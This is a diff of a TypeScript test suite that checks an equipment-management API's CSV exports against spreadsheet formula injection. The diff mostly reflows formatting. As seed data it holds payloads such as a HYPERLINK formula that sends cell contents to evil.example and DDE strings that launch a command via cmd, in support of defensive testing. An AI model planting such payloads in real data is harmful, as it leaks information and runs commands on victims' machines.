@@ -26,7 +26,11 @@ describe(`CSV exports against formula injection on ${testDbKind()}`, () => {
   const seedTypes = async (tenant: TenantRecord) => {
     const q = await call(tenant, 'POST', '/api/v1/qualifications', { code: 'CDL-A', name: 'CDL A' });
     expect(q.statusCode).toBe(201);
-    const type = await call(tenant, 'POST', '/api/v1/equipment-types', { code: 'TRUCK', name: 'Truck', requiredQualificationIds: [q.json<{ id: string }>().id] });
+    const type = await call(tenant, 'POST', '/api/v1/equipment-types', {
+      code: 'TRUCK',
+      name: 'Truck',
+      requiredQualificationIds: [q.json<{ id: string }>().id],
+    });
     expect(type.statusCode).toBe(201);
     return type.json<{ id: string }>().id;
   };
@@ -36,7 +40,11 @@ describe(`CSV exports against formula injection on ${testDbKind()}`, () => {
     t = await createTestApp(database);
     source = await createTestTenant(database, 'csvsrc');
     target = await createTestTenant(database, 'csvdst');
-    tokens[source.slug] = await t.identity.token({ roles: ['admin'], tenant: source.slug, name: '=HYPERLINK("http://evil.example/?"&A1,"Open")' });
+    tokens[source.slug] = await t.identity.token({
+      roles: ['admin'],
+      tenant: source.slug,
+      name: '=HYPERLINK("http://evil.example/?"&A1,"Open")',
+    });
     tokens[target.slug] = await t.identity.token({ roles: ['admin'], tenant: target.slug });
     const typeId = await seedTypes(source);
     await seedTypes(target);
@@ -51,7 +59,12 @@ describe(`CSV exports against formula injection on ${testDbKind()}`, () => {
       }),
       await call(source, 'POST', '/api/v1/sites', { name: "'=already quoted", address: 'Plain Street 1' }),
       await call(source, 'POST', '/api/v1/drivers', { name: '@Attacker', employeeNo: '=1+1', phone: '+44 7700 900123' }),
-      await call(source, 'POST', '/api/v1/equipment', { assetTag: 'EX1', name: '=cmd|\' /C calc\'!A0', equipmentTypeId: typeId, home: { lat: 53.4, lng: -2.3 } }),
+      await call(source, 'POST', '/api/v1/equipment', {
+        assetTag: 'EX1',
+        name: "=cmd|' /C calc'!A0",
+        equipmentTypeId: typeId,
+        home: { lat: 53.4, lng: -2.3 },
+      }),
     ];
     for (const response of created) expect(response.statusCode, response.body).toBe(201);
   });
@@ -66,14 +79,19 @@ describe(`CSV exports against formula injection on ${testDbKind()}`, () => {
       expect(exported.statusCode).toBe(200);
       const cells = cellsOf(exported.body);
       expect(cells.filter(isFormula), kind).toEqual([]);
-      expect(cells.some((c) => c.startsWith("'")), kind).toBe(true);
+      expect(
+        cells.some((c) => c.startsWith("'")),
+        kind,
+      ).toBe(true);
 
       const imported = await call(target, 'POST', `/api/v1/imports/${kind}`, exported.body, 'text/csv');
       expect(imported.statusCode, imported.body).toBe(200);
       const again = await call(target, 'GET', `/api/v1/exports/${kind}`);
       expect(again.body).toBe(exported.body);
     }
-    const sites = (await call(target, 'GET', '/api/v1/sites?limit=50')).json<{ items: Array<{ name: string; address: string; contactName: string | null; contactPhone: string | null; notes: string | null }> }>();
+    const sites = (await call(target, 'GET', '/api/v1/sites?limit=50')).json<{
+      items: Array<{ name: string; address: string; contactName: string | null; contactPhone: string | null; notes: string | null }>;
+    }>();
     expect(sites.items.map((s) => s.name).sort()).toEqual(["'=already quoted", '=HYPERLINK("http://evil.example","Click")']);
     expect(sites.items.find((s) => s.name.startsWith('=HYPERLINK'))).toMatchObject({
       address: '+1 Formula Road',
@@ -81,9 +99,13 @@ describe(`CSV exports against formula injection on ${testDbKind()}`, () => {
       contactPhone: '+44 161 555 0100',
       notes: "-2+3+cmd|' /C calc'!A0",
     });
-    const drivers = (await call(target, 'GET', '/api/v1/drivers?limit=50')).json<{ items: Array<{ name: string; employeeNo: string | null }> }>();
+    const drivers = (await call(target, 'GET', '/api/v1/drivers?limit=50')).json<{
+      items: Array<{ name: string; employeeNo: string | null }>;
+    }>();
     expect(drivers.items).toEqual([expect.objectContaining({ name: '@Attacker', employeeNo: '=1+1' })]);
-    const equipment = (await call(target, 'GET', '/api/v1/equipment?limit=50')).json<{ items: Array<{ assetTag: string; name: string }> }>();
+    const equipment = (await call(target, 'GET', '/api/v1/equipment?limit=50')).json<{
+      items: Array<{ assetTag: string; name: string }>;
+    }>();
     expect(equipment.items).toEqual([expect.objectContaining({ assetTag: 'EX1', name: "=cmd|' /C calc'!A0" })]);
   });
 
